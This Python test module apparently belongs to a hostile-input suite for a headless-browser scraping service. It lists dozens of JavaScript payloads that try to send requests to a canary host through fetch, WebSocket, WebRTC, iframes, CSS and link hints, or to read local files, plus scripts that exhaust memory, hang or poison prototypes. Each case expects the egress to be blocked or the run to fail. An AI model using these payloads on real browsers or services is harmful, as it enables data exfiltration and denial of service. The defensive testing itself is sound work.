"""Scripts that callers and pages run in a browser, to get out of it or to bring it down."""

from tests.hostile.case import OK, Bounds, Case, cases_of

# Each tries to reach the canary; a promise that fails for it is the script's own failure.
_OUTWARD = (
    "fetch('http://{canary}/')",
    "fetch('http://{canary}/', {mode: 'no-cors'})",
    "new Image().src = 'http://{canary}/'",
    "location = 'http://{canary}/'",
    "location = 'file:///etc/passwd'",
    "location = 'view-source:http://{canary}/'",
    "location = 'chrome://crash'",
    "window.open('http://{canary}/')",
    "document.body.innerHTML = '<iframe src=http://{canary}/></iframe>'",
    "document.body.innerHTML = '<object data=http://{canary}/></object>'",
    "document.head.innerHTML += '<link rel=dns-prefetch href=//leak.invalid>'",
    "document.head.innerHTML += '<link rel=preconnect href=http://{canary}>'",
    "document.head.innerHTML += '<link rel=prefetch href=http://{canary}/>'",
    "document.head.innerHTML += '<link rel=stylesheet href=http://{canary}/a.css>'",
    "navigator.sendBeacon('http://{canary}/', 'x')",
    "new EventSource('http://{canary}/').url",
    "new WebSocket('ws://{canary}/').url",
    "import('http://{canary}/x.js')",
    "new Worker(URL.createObjectURL(new Blob([`fetch('http://{canary}/')`]))) && 1",
    "(async () => { const c = new RTCPeerConnection({iceServers: [{urls: 'stun:{canary}'}]});"
    " c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()) })()",
    "document.body.innerHTML = '<form method=post action=http://{canary}/></form>';"
    " document.forms[0].submit()",
    "document.body.innerHTML = '<a ping=http://{canary}/ href=#x>x</a>'; document.links[0].click()",
    "document.body.innerHTML = '<video src=http://{canary}/v.mp4 autoplay></video>'",
    "new XMLHttpRequest().open('GET', 'http://{canary}/', false)",
    "const x = new XMLHttpRequest(); x.open('GET', 'http://{canary}/', false); x.send()",
    "fetch('http://{canary}/', {method: 'POST', keepalive: true, body: 'x'})",
    "fetch('http://[::1]:{canary_port}/')",
    "fetch('http://2130706433:{canary_port}/')",
    "fetch('http://localhost:{canary_port}/')",
    "fetch('https://{canary}/')",
    "fetch('/redirect/302/0')",
    "new SharedWorker('data:text/javascript,fetch(`http://{canary}/`)').port.start()",
    "new Worker(URL.createObjectURL(new Blob([`importScripts('http://{canary}/')`]))) && 1",
    "new Worker(URL.createObjectURL(new Blob([`new WebSocket('ws://{canary}/')`]))) && 1",
    "navigator.serviceWorker.register('/page/worker')",
    "new WebSocket('ws://localhost:{canary_port}/').url",
    "new WebTransport('https://{canary}/').ready.catch(() => 0)",
    "(async () => { const c = new RTCPeerConnection({iceServers: [{urls: 'turn:{canary}',"
    " username: 'a', credential: 'b'}]}); c.createDataChannel('x');"
    " await c.setLocalDescription() })()",
    "(async () => { const c = new RTCPeerConnection(); c.createDataChannel('x');"
    " await c.setLocalDescription(); await c.addIceCandidate({sdpMid: '0', candidate:"
    " 'candidate:1 1 udp 1 127.0.0.1 {canary_port} typ host'}) })()",
    "document.body.innerHTML = '<embed src=http://{canary}/>'",
    "document.body.innerHTML = '<img srcset=\"http://{canary}/ 1x\">'",
    "document.body.innerHTML = '<picture><source srcset=http://{canary}/><img></picture>'",
    "document.body.innerHTML = '<input type=image src=http://{canary}/>'",
    "document.body.innerHTML = '<audio autoplay><source src=http://{canary}/></audio>'",
    "document.body.innerHTML = '<video poster=http://{canary}/></video>'",
    "document.body.innerHTML = '<svg><image href=http://{canary}/ /></svg>'",
    "document.body.innerHTML = '<svg><use href=http://{canary}/#a /></svg>'",
    "document.body.innerHTML = '<iframe srcdoc=\"<img src=http://{canary}/>\"></iframe>'",
    "document.body.innerHTML = '<iframe src=data:text/html,<img/src=http://{canary}/>></iframe>'",
    "document.body.innerHTML = '<frameset><frame src=http://{canary}/></frameset>'",
    "document.body.style.background = 'url(http://{canary}/)'",
    "document.body.style.cursor = 'url(http://{canary}/), auto'",
    "document.head.innerHTML += '<style>@import \"http://{canary}/a.css\";</style>'",
    "document.head.innerHTML += '<style>@font-face{font-family:f;src:url(http://{canary}/)}"
    "body{font-family:f}</style>'",
    "document.head.innerHTML += '<link rel=modulepreload href=http://{canary}/x.js>'",
    "document.head.innerHTML += '<link rel=manifest href=http://{canary}/m.json>'",
    "document.head.innerHTML += '<link rel=icon href=http://{canary}/i.ico>'",
    "document.head.innerHTML += '<link rel=prerender href=http://{canary}/>'",
    "document.head.innerHTML += '<meta http-equiv=refresh content=\"0;url=http://{canary}/\">'",
    "const s = document.createElement('script'); s.type = 'speculationrules'; s.text ="
    " JSON.stringify({prefetch: [{urls: ['http://{canary}/'], eagerness: 'immediate'}]});"
    " document.head.append(s)",
    "const s = document.createElement('script'); s.src = 'http://{canary}/x.js';"
    " document.head.append(s)",
    "const f = document.createElement('form'); f.action = 'http://{canary}/'; f.target = '_blank';"
    " document.body.append(f); f.submit()",
    "const w = window.open('about:blank'); w && (w.location = 'http://{canary}/'); 1",
    "for (let n = 0; n < 50; n++) window.open('http://{canary}/' + n); 1",
    "const a = document.createElement('a'); a.href = 'http://{canary}/'; a.download = 'x';"
    " document.body.append(a); a.click()",
    "location.replace('/redirect/307/0')",
    "location = 'ftp://{canary}/'",
    "location = 'mailto:a@b'",
    "location = 'about:blank'",
    "location = 'data:text/html,x'",
    "location = 'blob:' + location.origin + '/x'",
    "location = 'chrome://kill'",
    "location = 'devtools://devtools/bundled/inspector.html'",
    "document.domain = '{canary}'",
)

_BREAKING = (
    "require('fs')",
    "process.exit(1)",
    "\u0000",
    "}",
    "throw 1",
    "throw {toString() { throw 1 }}",
    "'x'.repeat(5e8)",
    "new Array(1e7).fill('x').join('')",
    "await new Promise(() => {})",
    "while (1);",
    "const a = []; while (1) a.push(new Array(1e6).fill(1))",
    "for (;;) alert(1)",
    "alert(1); confirm(2); prompt(3)",
    "print()",
    "debugger",
    "window.close()",
    "history.pushState({}, '', '/' + 'a'.repeat(1e6))",
    "window.onbeforeunload = () => 'no'; 1",
    "navigator.geolocation.getCurrentPosition(() => 0)",
    "Object.defineProperty(Object.prototype, 'then', {get() { throw 1 }}); 1",
    "document.documentElement.remove()",
    "Object.prototype.toJSON = () => { throw 1 }; ({a: 1})",
    "Array.prototype.push = () => { throw 1 }; 1",
    "JSON.stringify = () => { throw 1 }; 1",
    "let o = {}; o.o = o; o",
    "document.open(); document.write('<p>anew'); document.close()",
    "document.write('<a download href=/plain id=d>x</a>'); d.click()",
    "history.pushState({}, '', '/' + 'a'.repeat(1e7))",
    "for (let n = 0; n < 1e5; n++) history.pushState({}, '', '#' + n); 1",
    "for (;;) history.back()",
    "setTimeout(() => { for (;;); }, 0); 1",
    "new Worker(URL.createObjectURL(new Blob(['for (;;);']))) && 1",
    "for (let n = 0; n < 200; n++) new Worker(URL.createObjectURL(new Blob(['for (;;);']))); 1",
    "Promise.resolve().then(function again() { return Promise.resolve().then(again) })",
    "(function again() { queueMicrotask(again) })()",
    "(function deep() { deep() })()",
    "document.body.innerHTML = '<div>'.repeat(1e6)",
    "document.body.innerHTML = '<iframe srcdoc=x></iframe>'.repeat(500)",
    "const c = document.createElement('canvas'); c.width = c.height = 30000;"
    " c.getContext('2d').fillRect(0, 0, 1, 1); 1",
    "const m = new WebAssembly.Memory({initial: 60000}); m.buffer.byteLength",
    "new ArrayBuffer(8e9)",
    "localStorage.a = 'x'.repeat(1e7)",
    "indexedDB.deleteDatabase('x'); 1",
    "Object.getPrototypeOf(Promise.prototype).then = () => 0; 1",
    "Promise.prototype.then = () => { throw 1 }; Promise.resolve(1)",
    "String.prototype.repeat = Object.keys = Object.entries = () => { throw 1 }; 1",
    "window.eval = () => { throw 1 }; 1",
    "document.querySelectorAll = () => { throw 1 }; 1",
    "Object.defineProperty(document, 'body', {get() { throw 1 }}); 1",
    "Object.defineProperty(document, 'documentElement', {value: null}); 1",
    "({get a() { throw 1 }})",
    "({toJSON() { for (;;); }})",
    "new Proxy({}, {get() { throw 1 }, ownKeys() { throw 1 }})",
    "Symbol('x')",
    "10n ** 100000n",
    "document.documentElement.requestFullscreen().catch(() => 0)",
    "navigator.clipboard.readText()",
    "Notification.requestPermission()",
    "navigator.credentials.get({password: true})",
    "showOpenFilePicker()",
    "document.title = 'x'.repeat(1e7)",
    "console.log('x'.repeat(1e8))",
    "for (let n = 0; n < 1e5; n++) console.log(n); 1",
    "location.reload(); 1",
    "setInterval(() => location.reload(), 1); 1",
    "window.stop(); 1",
    "setInterval(() => document.body.append('x'.repeat(1e6)), 1); 1",
)


def script_cases() -> list[Case]:
    """Return every script, run as an action of the caller's."""
    bounds = Bounds(seconds=40)
    failed = ("ACTION_FAILED", "SCRAPE_FAILED", "SCRAPE_TIMEOUT", "CONTENT_TOO_LARGE")
    return [
        *cases_of(
            "way out",
            _actions(_OUTWARD),
            OK,
            "EGRESS_BLOCKED",
            *failed,
            bounds=bounds,
            renders=True,
        ),
        *cases_of(
            "script",
            _actions(_BREAKING),
            OK,
            *failed,
            "VALIDATION_ERROR",
            bounds=bounds,
            renders=True,
        ),
        *cases_of(
            "rendered",
            [{"url": f"http://{{site}}/{path}", "mode": "dynamic"} for path in _RENDERED],
            OK,
            "EGRESS_BLOCKED",
            *failed,
            bounds=bounds,
            renders=True,
        ),
    ]


_RENDERED = (
    "page/refresh-canary",
    "page/base-canary",
    "page/icon-canary",
    "page/style-canary",
    "page/deep-div",
    "lure/refresh-header",
    "lure/preload-header",
    "lure/early-hints",
    "lure/reporting",
    "broken/corrupt-gzip",
    "broken/huge-chunk",
    "odd/cut-short",
    "too-large/a-terabyte-announced",
    "redirect/302/0",
    "redirect/307/11",
    "endless/loop",
)


def _actions(scripts: tuple[str, ...]) -> list[dict[str, object]]:
    return [
        {
            "url": "http://{site}/plain",
            "timeout": 10_000,
            "actions": [{"type": "executeJavascript", "script": script}],
        }
        for script in scripts
    ]
